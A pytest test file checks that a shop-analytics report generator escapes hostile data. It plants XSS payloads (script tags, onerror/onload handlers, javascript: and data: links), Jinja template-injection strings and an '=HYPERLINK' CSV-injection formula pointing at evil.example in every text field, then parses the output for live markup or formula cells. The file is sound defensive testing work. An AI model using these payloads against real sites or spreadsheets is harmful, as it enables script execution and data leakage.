"""No live markup from the data on any page of the week (issue 13): the sample shop with attack payloads in every
text field of every table, rendered end to end, each HTML page read by a DOM parser.

Every payload carries the marker ``pwn7zqx``. Escaped, a payload is text inside our own elements; live, it would be an
element or an attribute of its own (``<script>``, ``<img onerror>``, ``<svg onload>``, a Markdown link to
``javascript:`` or ``data:``), so the marker would show up in a tag name's content or an attribute. Template syntax is
checked by its result: ``{{ 'pwn7zqx' ~ 'eval' }}`` evaluated would print ``pwn7zqxeval``;
``{% if 1 %}pwn7zqxif{% endif %}`` evaluated would leave ``pwn7zqxif`` without its tags.

Fields whose values the contract fixes (reason codes, designs, statuses, variants, resolutions, contact causes,
metric names, ISO weeks, dates, numbers) keep valid values; a few reason codes get the payload to reach the
data-quality warning that quotes raw codes (they then count as ``other``, as the contract says). The levers of the
experiments table start with ``=HYPERLINK(``: the same run checks its CSV files (journal, experiments_plan.csv).
A ``$\\frac{...$`` payload checks that chart labels are not read as TeX (it failed notebook 01 before).
"""
from __future__ import annotations

import csv
import html.parser
import re
import zlib
from pathlib import Path

import pandas as pd
import pytest

from playbook.dev.sample_data import generate_shop, write_shop
from playbook.journal.store import JOURNAL_FILE, read_journal
from playbook.report.pages import GUIDES
from playbook.run.weekly import run_week

pytestmark = pytest.mark.notebooks
WEEK = "2026-W47"
MARKER = "pwn7zqx"  # long enough never to occur by chance in a base64 chart
# one payload per kind of attack; none holds ";" (the separator of cohort filters), none starts or ends with a space
PAYLOADS = (
    f"[{MARKER}-md](javascript:alert('{MARKER}'))",
    f"![{MARKER}-img](data:image/svg+xml,<svg onload=alert('{MARKER}')>)",
    f"[{MARKER}-data](data:text/html,<script>alert('{MARKER}')</script>)",
    f"<script>alert('{MARKER}')</script>",
    f"<img src=x onerror=alert('{MARKER}')>",
    f"<svg onload=alert('{MARKER}')>",
    f"<a href=\"javascript:alert('{MARKER}')\">{MARKER}-a</a>",
    f"{{{{ '{MARKER}' ~ 'eval' }}}}",  # evaluated (Jinja), it prints the marker and "eval" joined
    f"{{% if 1 %}}{MARKER}if{{% endif %}}",
    f"$\\frac{{{MARKER}$",  # matplotlib mathtext in a chart label: drawn as TeX, and this one does not parse
)
EVERY_PAYLOAD = " ".join(PAYLOADS)
EVALUATED_TEMPLATE = f"{MARKER}eval"
# where escaped text may stand: inside these elements the marker is data shown as text, never markup
RAW_TEXT_ELEMENTS = {"script", "style", "svg", "math", "iframe", "object", "embed", "template", "noscript", "a",
                     "img", "video", "audio", "source", "form", "button", "textarea", "title"}


def few(value: str) -> str:
    """A high-cardinality value (an id, a sku, a comment) with one payload, chosen by the value (stable across tables)."""
    return f"{value} {PAYLOADS[zlib.crc32(value.encode()) % len(PAYLOADS)]}"


def every(value: str) -> str:
    """A low-cardinality value (a category, a channel, an owner, a lever) with every payload."""
    return f"{value} {EVERY_PAYLOAD}"


def formula(value: str) -> str:
    """An experiments-table value a spreadsheet would run (OWASP CSV injection), with every payload after it."""
    return f'=HYPERLINK("http://evil.example/?{MARKER}","{value}") {EVERY_PAYLOAD}'


def _map(series: pd.Series, fn) -> pd.Series:
    return series.map(lambda v: fn(v) if isinstance(v, str) else v).astype(series.dtype)


def tainted_shop() -> dict[str, pd.DataFrame]:
    """The sample shop with the payloads in every free text field, references kept consistent."""
    t = {name: frame.copy() for name, frame in generate_shop().items()}
    for table, column, fn in [
        ("orders", "order_id", few), ("orders", "customer_id", few), ("orders", "channel", every),
        ("orders", "region", every),
        ("order_lines", "line_id", few), ("order_lines", "order_id", few), ("order_lines", "sku", few),
        ("order_lines", "category", every),
        ("returns", "return_id", few), ("returns", "line_id", few), ("returns", "reason_text", few),
        ("sessions", "channel", every), ("sessions", "category", every),
        ("contacts", "contact_id", few), ("contacts", "order_id", few),
        ("actions", "action_id", few), ("actions", "owner", every), ("actions", "description", few),
        ("marketing_spend", "channel", every),
        ("experiments", "experiment_id", every), ("experiments", "lever", formula),
        ("assignments", "experiment_id", every), ("assignments", "customer_id", few),
    ]:
        t[table][column] = _map(t[table][column], fn)
    # cohorts name categories: the same renamed category, behind the same column name
    for column in ("cohort", "control_cohort"):
        t["experiments"][column] = _map(t["experiments"][column],
                                        lambda c: ";".join(f"{k}={every(v)}" for k, v in
                                                           (p.split("=", 1) for p in c.split(";"))))
    # a few raw reason codes outside the taxonomy: quoted in the data-quality warning
    codes = t["returns"]["reason_code"].copy()
    codes.iloc[:5] = [every(c) for c in codes.iloc[:5]]
    t["returns"]["reason_code"] = codes
    return t


class _Page(html.parser.HTMLParser):
    """Where the marker occurs in a page: in attributes, in text, and inside which element."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.live: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if MARKER in name or MARKER in (value or ""):
                self.live.append(f"<{tag} {name}={value!r}>")
            if name.lower().startswith("on") and MARKER in (value or ""):
                self.live.append(f"<{tag}> event handler {name}")
            if name.lower() in ("href", "src", "action", "formaction", "xlink:href") and re.match(
                    r"\s*(javascript|data):", value or "", re.I) and MARKER in (value or ""):
                self.live.append(f"<{tag} {name}={value!r}>")
        if tag not in ("br", "hr", "img", "meta", "link", "input", "col", "wbr", "area", "base", "source"):
            self.stack.append(tag)
        elif tag == "img" and any(MARKER in (v or "") for _, v in attrs):
            self.live.append(f"<img {attrs!r}>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if self.stack and self.stack[-1] == tag:
            self.stack.pop()

    def handle_endtag(self, tag):
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def handle_data(self, data):
        self.text.append(data)
        if MARKER in data:
            inside = RAW_TEXT_ELEMENTS.intersection(self.stack)
            if inside:
                self.live.append(f"text {data[:80]!r} inside <{'>, <'.join(sorted(inside))}>")


def read_page(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    return page


@pytest.fixture(scope="module")
def shop() -> dict[str, pd.DataFrame]:
    return tainted_shop()


@pytest.fixture(scope="module")
def week(shop, tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("markup")
    write_shop(shop, base / "data")
    return run_week(WEEK, base / "data", base / "reports", journal=base / "journal")


@pytest.fixture(scope="module")
def journal(week) -> Path:
    return week.parent.parent / "journal"


@pytest.fixture(scope="module")
def pages(week) -> dict[str, _Page]:
    found = sorted(week.rglob("*.html"))
    return {str(p.relative_to(week)): read_page(p) for p in found}


def test_every_page_of_the_week_is_checked(pages):
    names = set(pages)
    assert {"index.html", "brief/index.html", "04_comparison.html", "brief/04_comparison.html"} <= names
    # the five notebooks, the index and the guides
    assert len([n for n in names if not n.startswith("brief/")]) == 6 + len(GUIDES)


def test_the_payloads_reach_the_pages_as_text(pages):
    # otherwise the checks below could pass on pages that show no data at all
    shown = "".join("".join(p.text) for p in pages.values())
    for payload in (PAYLOADS[0], PAYLOADS[3], PAYLOADS[5]):
        assert payload in shown
    assert pages["index.html"].text and MARKER in "".join(pages["index.html"].text)
    assert MARKER in "".join(pages["04_comparison.html"].text)


def test_no_page_holds_an_element_or_attribute_from_the_data(pages):
    live = {name: page.live for name, page in pages.items() if page.live}
    assert live == {}


def test_no_template_syntax_from_the_data_is_evaluated(pages):
    for name, page in pages.items():
        text = "".join(page.text)
        assert EVALUATED_TEMPLATE not in text, name
        bare = [m.start() for m in re.finditer(f"{MARKER}if", text)
                if not text[:m.start()].endswith("{% if 1 %}")]
        assert bare == [], name


# --- the CSV files of the same run (the levers of the experiments table start with "=") ------------------------

def unsafe_cells(path: Path) -> list[str]:
    """Cells a spreadsheet would evaluate: a formula start (OWASP) that is not a plain number."""
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", c)]


def test_the_csv_files_of_the_run_hold_no_cell_a_spreadsheet_would_run(week, journal):
    files = [journal / JOURNAL_FILE, week / "experiments_plan.csv"]
    assert {p.name: unsafe_cells(p) for p in files} == {p.name: [] for p in files}


def test_the_journal_reads_back_the_levers_of_the_data_as_they_were(shop, journal):
    verdicts = read_journal(journal).query("kind == 'verdict'")
    assert len(verdicts) > 0
    assert set(verdicts["lever"]) <= set(shop["experiments"]["lever"])
    assert all(lever.startswith('=HYPERLINK("http://evil.example/') for lever in verdicts["lever"])
